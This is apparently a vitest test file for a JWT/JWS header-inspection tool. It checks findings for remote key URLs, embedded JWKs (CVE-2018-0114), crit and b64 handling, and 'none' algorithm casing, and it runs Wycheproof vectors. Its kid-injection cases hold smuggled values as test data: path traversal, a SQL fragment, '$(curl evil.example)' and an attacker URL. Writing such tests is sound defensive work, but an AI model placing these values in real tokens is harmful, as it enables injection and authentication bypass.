import { describe, expect, test } from 'vitest';
import { NEAR_MISSES, RAISING } from './header.cases';
import {
	describeFindingCases,
	codes,
	find,
	findCode,
	FRESH,
	HS,
	jws,
	wycheproofJwsVectors,
} from './fixtures';

describeFindingCases(
	{ raised: 'header findings are raised', notRaised: 'header findings are not raised just across the line' },
	RAISING,
	NEAR_MISSES,
);

describe('header findings explain themselves', () => {
	test('jku and x5u each get their own finding, naming the member, and say nothing is fetched', () => {
		const token = jws({ alg: 'RS256', jku: 'https://a.example/k', x5u: 'http://b.example/c' }, FRESH);
		const found = find(token).filter((f) => f.code === 'remote-key-url');
		expect(found.map((f) => f.member)).toEqual(['jku', 'x5u']);
		expect(found.every((f) => f.part === 'header' && /never fetches/.test(f.detail))).toBe(true);
		expect(found[0]?.detail).toContain('"https://a.example/k"');
		expect(found[1]?.detail).toMatch(/not an https URL/);
	});

	test('embedded-jwk names the key type, CVE-2018-0114, and a private part', () => {
		const finding = findCode(jws({ ...HS, jwk: { kty: 'oct', k: 'eA', d: 'x' } }, FRESH), 'embedded-jwk');
		expect(finding).toMatchObject({ part: 'header', member: 'jwk' });
		expect(finding?.detail).toContain('"oct"');
		expect(finding?.detail).toContain('CVE-2018-0114');
		expect(finding?.detail).toMatch(/private part/);
	});

	test.each([
		['../../../../dev/null', 'path traversal'],
		["x' UNION SELECT 'a' -- ", 'SQL syntax'],
		['$(curl evil.example)', 'shell syntax'],
		['http://evil.example/k', 'a URL'],
		['k\u0000', 'a NUL or control character'],
	])('kid-injection for %j says it contains %s', (value, phrase) => {
		const finding = findCode(jws({ ...HS, kid: value }, FRESH), 'kid-injection');
		expect(finding).toMatchObject({ part: 'header', member: 'kid' });
		expect(finding?.detail).toContain(phrase);
	});

	test('kid-injection shows a NUL escaped and a long kid cut short', () => {
		const nul = findCode(jws({ ...HS, kid: 'k\u0000' }, FRESH), 'kid-injection');
		expect(nul?.detail).toContain('"k\\u0000"');
		expect(nul?.detail).not.toContain('\u0000');
		const long = findCode(jws({ ...HS, kid: `../${'a'.repeat(5000)}` }, FRESH), 'kid-injection');
		expect(long?.detail.length).toBeLessThan(600);
		expect(long?.detail).toContain('…"');
	});

	test('kid-injection escapes direction overrides so the detail reads as written', () => {
		const finding = findCode(jws({ ...HS, kid: '../\u202ekey' }, FRESH), 'kid-injection');
		expect(finding?.detail).toContain('\\u202e');
		expect(finding?.detail).not.toContain('\u202e');
	});

	test.each([
		[{ b64: false, crit: ['b64'] }, /"b64"/, /understands/],
		[{ crit: ['exp'] }, /"exp" is listed but absent/, /But/],
		[{ crit: ['alg'] }, /"alg" is a standard parameter/, /But/],
		[{ ext: 1, crit: ['ext'] }, /"ext" is an extension this page does not support/, /reject/],
		[{ crit: [] }, /empty/, /But/],
		[{ crit: 'b64', b64: false }, /a string, not a list/, /But/],
		[{ crit: ['b64', 'b64'], b64: false }, /twice/, /But/],
	])('crit %j is explained', (extra, first, second) => {
		const finding = findCode(jws({ ...HS, ...extra }, FRESH), 'crit-header');
		expect(finding).toMatchObject({ severity: 'warning', part: 'header', member: 'crit' });
		expect(finding?.detail).toMatch(first);
		expect(finding?.detail).toMatch(second);
	});

	test('a crit of thousands of names makes a short detail', () => {
		const names = Array.from({ length: 5000 }, (_, i) => `e${i}`);
		const finding = findCode(jws({ ...HS, crit: names }, FRESH), 'crit-header');
		expect(finding?.detail).toMatch(/only the first 20/);
		expect(finding?.detail.length).toBeLessThan(5000);
	});

	test('b64-false says when crit does not list b64 (RFC 7797 §6)', () => {
		expect(findCode(jws({ ...HS, b64: false }, FRESH), 'b64-false')?.detail).toMatch(/does not list "b64"/);
		expect(findCode(jws({ ...HS, b64: false, crit: ['b64'] }, FRESH), 'b64-false')?.detail).not.toMatch(
			/does not list/,
		);
	});

	test('x5c-header counts the certificates', () => {
		expect(findCode(jws({ alg: 'RS256', x5c: ['a', 'b', 'c'] }, FRESH), 'x5c-header')?.detail).toContain(
			'3 certificates',
		);
	});
});

describe('Wycheproof json_web_signature_test.json', () => {
	const vectors = wycheproofJwsVectors();

	test.each(vectors.filter((v) => v.comment === 'rejectsAttackerProvidedEmbeddedJwk'))(
		'wycheproof #$tcId $comment raises embedded-jwk',
		(vector) => {
			expect(codes(vector.jws as string)).toContain('embedded-jwk');
		},
	);

	test.each(vectors.filter((v) => v.comment === 'algIsNone'))(
		'wycheproof #$tcId $comment raises alg-none',
		(vector) => {
			const token = vector.jws as string;
			const { alg } = JSON.parse(Buffer.from(token.split('.')[0]!, 'base64url').toString()) as {
				alg: string;
			};
			// #342 writes "NONE".
			expect(findCode(token, 'alg-none')?.detail.includes('casing variant')).toBe(alg !== 'none');
		},
	);

	test('no compact Wycheproof vector has a kid that looks like an injection', () => {
		const compact = vectors.filter((v) => typeof v.jws === 'string' && v.jws.split('.').length === 3);
		expect(compact.length).toBeGreaterThan(300);
		for (const vector of compact) expect(codes(vector.jws as string)).not.toContain('kid-injection');
	});
});

describe('alg-none casing', () => {
	test.each(['None', 'NONE', 'nOnE'])('alg %s is called a casing variant', (alg) => {
		expect(findCode(jws({ alg }, FRESH, ''), 'alg-none')?.detail).toContain('casing variant');
	});

	test('alg none is not called a casing variant', () => {
		expect(findCode(jws({ alg: 'none' }, FRESH, ''), 'alg-none')?.detail).not.toContain('casing variant');
	});
});
